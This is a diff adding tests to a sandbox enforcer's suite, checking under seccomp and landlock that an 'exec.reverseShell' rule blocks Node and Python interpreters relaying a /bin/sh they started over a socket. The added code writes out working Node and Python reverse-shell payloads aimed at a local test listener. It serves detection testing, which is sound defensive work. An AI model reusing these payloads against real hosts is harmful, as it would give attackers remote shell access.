@@ -717,3 +717,47 @@ describe.each(["seccomp", "landlock"] as const)("a shell behind a terminal on th
     }
   });
 });
+
+// new (session 7): the interpreter relays the shell itself. Node's reverse shell from every cheat
+// sheet spawns `/bin/sh` with pipes and only then connects (`client.pipe(sh.stdin);
+// sh.stdout.pipe(client)`); Python's connects first, then starts `sh` on pipes and copies both
+// ways. The shell's stdio are pipes (no socket), its parent an interpreter (not a relay), and the
+// commands ran.
+describe.each(["seccomp", "landlock"] as const)("an interpreter relaying a shell it started, mechanism %s", (mechanism) => {
+  const NET_POLICY = POLICY.replace("end\n", "network.connect.deny 192.0.2.1/32\nend\n");
+  const NODE_SHELL = (port: number) =>
+    `(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();` +
+    `client.on("error",function(e){console.log("client",e.code);sh.kill();});sh.on("exit",function(){client.destroy();});` +
+    `client.connect(${port},"127.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});})();`;
+  const PYTHON_SHELL = (port: number) =>
+    `import socket, subprocess, threading\ns = socket.create_connection(("127.0.0.1", ${port}))\n` +
+    `try:\n    p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\nexcept OSError as e:\n    print("popen", e.errno); raise SystemExit\n` +
+    `threading.Thread(target=lambda: [p.stdin.write(d) or p.stdin.flush() for d in iter(lambda: s.recv(4096), b"")], daemon=True).start()\n` +
+    `for d in iter(lambda: p.stdout.read1(4096), b""): s.sendall(d)\n`;
+
+  test.each([
+    ["node: spawn, then connect (network.connect rules)", NET_POLICY, (port: number) => ["/usr/bin/node", "-e", NODE_SHELL(port)]],
+    ["python: connect, then Popen (no network.connect rules)", POLICY, (port: number) => [PYTHON, "-c", PYTHON_SHELL(port)]],
+  ] as const)("%s: refused; a piped sh without a connection, and sh -c next to one, run", async (_name, policy, argv) => {
+    const a = await attacker("127.0.0.1");
+    try {
+      const r = await runEnforcer({ mechanism, policy, command: [...argv(a.port)], cwd: tmp.path, timeoutMs: 20_000 });
+      expect(a.bytes()).not.toContain("SHELL-42");
+      const refused = r.events.filter((e) => e.verdict === "blocked" && "rule" in e && e.rule === "exec.reverseShell");
+      expect(refused.length, describeExecs(r.events)).toBeGreaterThanOrEqual(1);
+    } finally {
+      await a.close();
+    }
+    const peer = await tcpListener("127.0.0.1");
+    try {
+      const neighbours =
+        `node -e 'const sh=require("child_process").spawn("/bin/sh",[]); sh.stdout.on("data",d=>process.stdout.write(d)); sh.stdin.end("echo node-piped-ok\\n")'; ` +
+        `${PYTHON} -c 'import socket, subprocess; s = socket.create_connection(("127.0.0.1", ${peer.port})); print(subprocess.run("echo py-c-ok", shell=True, capture_output=True).stdout.decode().strip())'`;
+      const r = await runEnforcer({ mechanism, policy: NET_POLICY, command: ["bash", "-c", neighbours], cwd: tmp.path, timeoutMs: 20_000 });
+      expect(r.stdout.trim().split("\n")).toEqual(["node-piped-ok", "py-c-ok"]);
+      expect(blockedExecs(r.events)).toEqual([]);
+    } finally {
+      await peer.close();
+    }
+  });
+});
